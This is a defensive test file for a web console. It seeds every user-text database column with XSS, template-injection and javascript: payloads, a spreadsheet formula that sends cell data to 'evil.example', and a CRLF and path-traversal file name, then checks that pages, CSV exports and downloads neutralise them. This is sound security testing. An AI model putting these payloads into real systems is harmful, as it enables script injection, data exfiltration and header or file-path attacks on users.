// Hostile text in every column that takes it, of every table that a page may read: each page shows it as text, and no address, file or header
// that is made of it does anything.

import { afterAll, beforeAll, expect, test } from 'vitest'
import { addressesOf } from '../helpers/console-requests.ts'
import { type ConsoleWorld, openConsoleWorld, sendFiles } from '../helpers/console-world.ts'
import { withClient } from '../helpers/database.ts'

/** Ends a tag, an attribute in either quotes, a comment and a script; a template; signs that turn text. */
const hostile = `"><svg onload=alert(1)>'-->]]></textarea></title><script>alert(1)</script>{{7*7}}\${7*7}\u202E`
const link = 'javascript:alert(1)'
const formula = `=HYPERLINK("https://evil.example?"&A1)`

/** Tables that say what the program is, not what people write. */
const kept =
  /^(migration|instance|meta_|lookup$|form|query|state_transition|audit|token|latch|work|acting|stated|console_session|entity_type|entity_rule|relationship_type|development_type|work_)/
/** Names of things, by which they are found, and words of the program. */
const keptColumns =
  /_(hid|digest|kind|state|status|outcome|channel|trust|login|role|mark|stamp|normal|path|slot|table|column|collection|creator|by|seer|decider|domain|value|proof|verb|language|currency|country|source|reason|fields|case|protection|salt|token|gate|mailto|carrier|undoer|map|email)$/

let world: ConsoleWorld
let queries: readonly string[]
const written: string[] = []
beforeAll(async () => {
  world = await openConsoleWorld()
  queries = (
    await world.home.rows<{ name: string }>(
      "select query_hid as name from query where query_shipped and query_use = 'people' order by 1",
    )
  ).map(({ name }) => name)
  await withClient(world.home.database.url('satchel'), async client => {
    await client.query('set role satchel_owner; set row_security = off')
    const { rows } = await client.query<{ source: string; name: string }>(
      `select relname as source, attname as name from pg_class join pg_attribute on attrelid = pg_class.oid
       where relnamespace = 'public'::regnamespace and relkind = 'r' and atttypid = 'text'::regtype and attnum > 0 and not attisdropped
         and attgenerated = '' order by 1, 2`,
    )
    for (const { source, name } of rows) {
      if (kept.test(source) || keptColumns.test(name)) continue
      const value = /website|url/.test(name) ? link : /note$|description$/.test(name) ? `${formula}${hostile}` : hostile
      const done = await client
        .query(`update "${source}" set "${name}" = $1 where "${name}" is not null or '${name}' ~ 'note|website'`, [
          value,
        ])
        .catch(() => null)
      if ((done?.rowCount ?? 0) > 0) written.push(name)
    }
    await client
      .query(
        "update contact_point set contact_point_value = $1 where contact_point_kind = (select lookup_id from lookup where lookup_hid = 'contact-kind/other')",
        [link],
      )
      .catch(() => null)
  })
}, 240_000)
afterAll(async () => {
  expect(world.served.bugs).toEqual([])
  await world.close()
})

test('the text is in what pages read', () => {
  expect(written).toEqual(
    expect.arrayContaining([
      'person_given',
      'person_note',
      'organization_name',
      'organization_website',
      'deal_name',
      'ticket_name',
      'grp_name',
      'activity_body',
      'address_line1',
      'inquiry_message',
      'item_message',
      'load_run_file',
      'staff_name',
    ]),
  )
})

test('every page shows it as text, in tags and in attributes', async () => {
  const shown = new Set<string>()
  for (const name of ['grace', 'tina'] as const)
    for (const { route, path } of addressesOf(world, queries)) {
      const { status, text, headers } = await world.as(name).get(path)
      expect([path, status]).toEqual([path, expect.toSatisfy((code: number) => code < 500)])
      const type = headers.get('content-type') ?? ''
      if (!/^(text\/html|image\/svg)/.test(type)) continue
      if (text.includes('&lt;svg onload')) shown.add(route)
      expect([path, /<svg onload|<script>alert|<\/title><script|<!--\s*"&gt;/.exec(text)?.[0]]).toEqual([
        path,
        undefined,
      ])
      expect([path, /\s(?:href|src|action|formaction|xlink:href|data)=["']?\s*javascript:/i.exec(text)?.[0]]).toEqual([
        path,
        undefined,
      ])
      // no tag has an attribute that runs
      expect([path, /<[a-z][^<>]*\son[a-z]+\s*=/i.exec(text.replaceAll(/"[^"]*"/g, '""'))?.[0]]).toEqual([
        path,
        undefined,
      ])
    }
  for (const route of [
    '/records/:record',
    '/find',
    '/list/:type',
    '/inquiries',
    '/due',
    '/',
    '/staff',
    '/board/:process',
  ])
    expect([route, shown.has(route)]).toEqual([route, true])
}, 240_000)

test('no cell of a saved table is a formula', async () => {
  let cells = 0
  for (const { path } of addressesOf(world, queries)) {
    if (!/\/csv(\?|$)/.test(path)) continue
    const { headers, text } = await world.as('grace').get(path)
    if (headers.get('content-type')?.startsWith('text/csv') !== true) continue
    expect([path, headers.get('content-disposition')]).toEqual([
      path,
      expect.stringMatching(/^attachment; filename\*=UTF-8''[\w%.-]+$/),
    ])
    expect([path, /(^|[,\n])"?[=+@][^,\n]{0,40}/.exec(text)?.[0]]).toEqual([path, undefined])
    cells += text.split(',').length
  }
  expect(cells).toBeGreaterThan(100)
})

test('a file of any name is saved under it, whatever it says to headers, folders and readers', async () => {
  const name = `..a"b';%0d%0aSet-Cookie: x=1<script>\u202E\u05D0gnp.html`
  await world.home.rows('update attachment set attachment_filename = $1', [name])
  const { status, headers, text } = await world.as('grace').get(`/records/P-7hid/files/${world.ids.file}`)
  expect([status, text, headers.get('set-cookie'), headers.get('content-type')]).toEqual([
    200,
    'Insidehidden',
    null,
    'application/octet-stream',
  ])
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''[\w%.!~*'()-]+$/)
  // what a browser sends has no folder any more
  const sent = await sendFiles(world.served, world.as('grace'), '/records/P-7hid/files', {}, [
    '../../../etc/pa"ss\r\nwd',
    'x',
  ])
  expect(sent.status).toBeLessThan(500)
  const names = await world.home.rows<{ name: string }>(
    'select attachment_filename as name from attachment order by attachment_id desc limit 1',
  )
  expect(names[0]?.name).not.toContain('/')
})
